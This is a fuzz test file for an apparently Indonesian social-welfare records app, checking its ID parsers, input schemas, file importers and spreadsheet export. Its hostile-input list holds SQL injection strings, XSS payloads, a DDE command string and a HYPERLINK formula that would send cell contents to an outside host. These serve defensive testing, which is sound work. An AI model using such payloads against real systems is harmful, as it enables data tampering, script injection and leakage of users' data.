import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { z } from "zod";
import { ZAddCaseNoteInput, ZAssignCaseInput, ZCreateCaseInput, ZTransitionCaseInput } from "@/lib/cases/schemas";
import { mapHeaders } from "@/lib/dtks/headers";
import { normalizeRegionCode, parseDate, validateRow } from "@/lib/dtks/validate-row";
import { ZIndicatorSetDefinition } from "@/lib/eligibility/indicator-set";
import { parsePovertyLineCsv } from "@/lib/eligibility/poverty-line-csv";
import { ZAssessFacts, ZAssessHouseholdInput } from "@/lib/eligibility/schemas";
import { parseNoKk } from "@/lib/households/no-kk";
import { parseNik } from "@/lib/households/nik";
import {
  fromFormFields, ZAddMemberInput, ZHouseholdInput, ZMarkDeceasedInput, ZMoveMemberInput, ZPersonInput, ZTagPpksInput,
  ZUpdateHouseholdInput, ZUpdateMemberInput,
} from "@/lib/households/schemas";
import { ZCreateReferralInput, ZRoutingRuleInput, ZTransitionReferralInput } from "@/lib/referrals/schemas";
import { looksLikeFormula, neutralizeCell } from "@/lib/security/neutralize-cell";
import { ZChangePasswordInput, ZCreateUserInput, ZUserIdInput } from "@/lib/users/schemas";

/**
 * Hostile input. Fixed seed so a failure reproduces; a longer run: FUZZ_RUNS=20000 npm test -- unit
 * (the seed can be changed with FUZZ_SEED).
 */
fc.configureGlobal({ seed: Number(process.env.FUZZ_SEED ?? 20261123), numRuns: Number(process.env.FUZZ_RUNS ?? 200) });

/** Strings an attacker or a confused clerk would type: unicode, SQL meta, markup, formulas, control chars. */
const hostileString = fc.oneof(
  fc.string(),
  fc.string({ unit: "grapheme" }),
  fc.string({ unit: "binary" }),
  fc.constantFrom(
    "'; DROP TABLE person; --", "\" OR 1=1 --", "Robert'); DELETE FROM household;--", "%' AND 1=1 --", "\\x00\u0000",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "=HYPERLINK(\"http://x/?\"&A1,\"klik\")",
    "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\u202e\u0644\u0627", "Ñoño Ḿüller 李雷 😀", " ".repeat(10_000), "9".repeat(5000),
    "__proto__", "constructor", "{\"$ne\":null}",
  ),
);
/** An arbitrary JSON-ish value, including objects that carry privileged keys. */
const hostileValue = fc.oneof(
  fc.anything({ withNullPrototype: true, withBigInt: true, withDate: true, withMap: true, withSet: true, withTypedArray: true }),
  fc.dictionary(fc.oneof(fc.string(), fc.constantFrom("regionCode", "districtCode", "officeId", "createdById", "version", "__proto__", "role")), fc.oneof(hostileString, fc.integer(), fc.constant(null), fc.array(hostileString))),
);

const SCHEMAS: Record<string, z.ZodType> = {
  ZHouseholdInput, ZUpdateHouseholdInput, ZAddMemberInput, ZUpdateMemberInput, ZMoveMemberInput, ZMarkDeceasedInput, ZTagPpksInput, ZPersonInput,
  "fromFormFields(ZHouseholdInput)": fromFormFields(ZHouseholdInput),
  ZCreateCaseInput, ZTransitionCaseInput, ZAssignCaseInput, ZAddCaseNoteInput,
  ZCreateReferralInput, ZTransitionReferralInput, ZRoutingRuleInput,
  ZAssessFacts, ZAssessHouseholdInput, ZIndicatorSetDefinition,
  ZCreateUserInput, ZUserIdInput, ZChangePasswordInput,
};

describe("fuzz: NIK and No KK parsers", () => {
  it("parseNik never throws, and accepts only 16 digits (separators aside) that it returns unchanged", () => {
    fc.assert(fc.property(fc.oneof(hostileString, fc.stringMatching(/^[0-9 .-]{10,24}$/)), (s) => {
      const r = parseNik(s, { today: new Date(2026, 10, 23) });
      if (r.ok) {
        expect(r.value.nik).toMatch(/^\d{16}$/);
        expect(s.replace(/\D/g, "")).toBe(r.value.nik);
      }
    }));
  });
  it("parseNoKk never throws, and accepts only 16 digits (separators aside)", () => {
    fc.assert(fc.property(fc.oneof(hostileString, fc.stringMatching(/^[0-9 .-]{10,24}$/)), (s) => {
      const r = parseNoKk(s, { today: new Date(2026, 10, 23) });
      if (r.ok) {
        expect(r.value.noKk).toMatch(/^\d{16}$/);
        expect(s.replace(/\D/g, "")).toBe(r.value.noKk);
      }
    }));
  });
  it("a valid NIK (a real birth date, +40 on the day for women) is accepted, whatever separators surround its digits", () => {
    const arb = fc.record({
      region: fc.tuple(fc.constantFrom("11", "31", "35", "51", "61", "73", "94"), fc.stringMatching(/^(0[1-9]|[1-7][0-9])(0[1-9]|[1-3][0-9])$/)).map(([p, rest]) => p + rest), date: fc.date({ min: new Date(1930, 0, 1), max: new Date(2025, 11, 31), noInvalidDate: true }),
      female: fc.boolean(), serial: fc.integer({ min: 1, max: 9999 }),
    });
    fc.assert(fc.property(arb, ({ region, date, female, serial }) => {
      const dd = String(date.getDate() + (female ? 40 : 0)).padStart(2, "0");
      const nik = `${region}${dd}${String(date.getMonth() + 1).padStart(2, "0")}${String(date.getFullYear()).slice(2)}${String(serial).padStart(4, "0")}`;
      const r = parseNik(`${nik.slice(0, 6)}.${nik.slice(6, 12)}.${nik.slice(12)}`, { today: new Date(2026, 10, 23) });
      expect(r.ok, nik).toBe(true);
    }));
  });
});

describe("fuzz: every zod input schema", () => {
  for (const [name, schema] of Object.entries(SCHEMAS)) {
    it(`${name}.safeParse never throws on arbitrary input`, () => {
      fc.assert(fc.property(hostileValue, (v) => {
        const r = schema.safeParse(v);
        expect(typeof r.success).toBe("boolean");
      }));
    });
  }

  it("free text (names, notes) with SQL meta, markup or unicode is kept as plain data, not rejected or altered beyond trimming", () => {
    fc.assert(fc.property(fc.constantFrom("O'Brien; DROP TABLE person;--", "<b>Siti</b> & \"Ani\"", "Ñoño 李雷", "Sri \\ Rahayu %_"), (name) => {
      const r = ZPersonInput.safeParse({ name, sex: "P", relation: "KEPALA_KELUARGA" });
      expect(r.success).toBe(true);
      if (r.success) expect(r.data.name).toBe(name.trim());
    }));
  });
});

describe("mass assignment: privileged fields are refused by every schema", () => {
  const PRIVILEGED = { districtCode: "35.73", officeId: "kantor-lain", createdById: "orang-lain", role: "ADMIN", id: "x", status: "SELESAI" };
  const valid: Record<string, [z.ZodType, Record<string, unknown>]> = {
    ZUpdateHouseholdInput: [ZUpdateHouseholdInput, { householdId: "h1", version: "1", address: "Jl. Mawar 1", rt: "1", rw: "2" }],
    ZUpdateMemberInput: [ZUpdateMemberInput, { personId: "p1", version: "1", name: "Siti", sex: "P", relation: "ISTRI" }],
    ZAddMemberInput: [ZAddMemberInput, { householdId: "h1", name: "Siti", sex: "P", relation: "ISTRI" }],
    ZCreateCaseInput: [ZCreateCaseInput, { channel: "TELEPON", kind: "PERMOHONAN_LAYANAN", need: "Butuh bantuan biaya berobat.", serviceCategories: ["kesehatan"], urgency: "SEDANG" }],
    ZAddCaseNoteInput: [ZAddCaseNoteInput, { caseId: "c1", body: "Catatan kunjungan." }],
    ZCreateReferralInput: [ZCreateReferralInput, { caseId: "c1", serviceCategory: "kesehatan", reason: "Mohon ditindaklanjuti.", legalBasis: "TUGAS_LAYANAN_PUBLIK" }],
    ZTransitionReferralInput: [ZTransitionReferralInput, { referralId: "r1", version: "1", to: "DITERIMA" }],
    ZCreateUserInput: [ZCreateUserInput, { username: "budi.s", name: "Budi", role: "FRONT_OFFICE", officeId: "o1" }],
  };
  for (const [name, [schema, input]] of Object.entries(valid)) {
    it(`${name}: region/office/owner/version keys not in the form are refused`, () => {
      const base = schema.safeParse(input);
      expect(base.success, JSON.stringify(base.error?.issues)).toBe(true);
      const extra = Object.fromEntries(Object.entries(PRIVILEGED).filter(([k]) => !(k in input)));
      const r = schema.safeParse({ ...input, ...extra });
      expect(r.success).toBe(false);
      expect(r.error?.issues.flatMap((i) => (i.code === "unrecognized_keys" ? i.keys : [])).sort()).toEqual(Object.keys(extra).sort());
    });
  }
  it("the household update form cannot move a household to another region (regionCode is refused)", () => {
    const r = ZUpdateHouseholdInput.safeParse({ householdId: "h1", version: "1", address: "Jl. Mawar 1", rt: "1", rw: "2", regionCode: "35.73.01.1001" });
    expect(r.success).toBe(false);
  });
});

describe("fuzz: file parsers", () => {
  const m = mapHeaders(["NIK", "NO_KK", "NAMA", "TGL_LAHIR", "KODE_WILAYAH", "DESIL", "PKH"]);
  const ctx = { districtCode: "35.77", batchRegionCode: "35.77", knownRegions: new Set(["35.77", "35.77.01", "35.77.01.1001"]), today: new Date(2026, 0, 1) };
  it("DTKS row validation never throws on arbitrary cells, and a row it accepts has a 16-digit NIK", () => {
    fc.assert(fc.property(fc.array(hostileString, { maxLength: 10 }), (cells) => {
      const r = validateRow(cells, m, ctx);
      if (r.ok) expect(r.row.nik).toMatch(/^\d{16}$/);
    }));
  });
  it("DTKS date and region normalisers never throw", () => {
    fc.assert(fc.property(hostileString, (s) => {
      parseDate(s);
      normalizeRegionCode(s);
    }));
  });
  it("header mapping never throws on arbitrary header rows", () => {
    fc.assert(fc.property(fc.array(hostileString, { maxLength: 30 }), (h) => void mapHeaders(h)));
  });
  it("the poverty-line CSV parser never throws, whatever the text", () => {
    fc.assert(fc.property(fc.oneof(hostileString, fc.array(fc.array(hostileString, { maxLength: 8 }), { maxLength: 6 }).map((rows) => rows.map((r) => r.join(",")).join("\n"))), (text) => {
      const r = parsePovertyLineCsv(text);
      expect(Array.isArray(r.rows) && Array.isArray(r.errors)).toBe(true);
    }));
  });
});

describe("spreadsheet formula injection", () => {
  it("neutralizeCell: no exported string can start a formula; harmless text is unchanged", () => {
    fc.assert(fc.property(hostileString, (s) => {
      const out = neutralizeCell(s);
      expect(looksLikeFormula(out)).toBe(false);
      if (!looksLikeFormula(s)) expect(out).toBe(s);
      else expect(out).toBe(`'${s}`);
    }));
    expect(neutralizeCell("=HYPERLINK(\"http://evil\",\"klik\")")).toBe("'=HYPERLINK(\"http://evil\",\"klik\")");
    expect(neutralizeCell("  @SUM(A1)")).toBe("'  @SUM(A1)");
    expect(neutralizeCell(42)).toBe(42);
    expect(neutralizeCell("Siti Aminah")).toBe("Siti Aminah");
  });
});
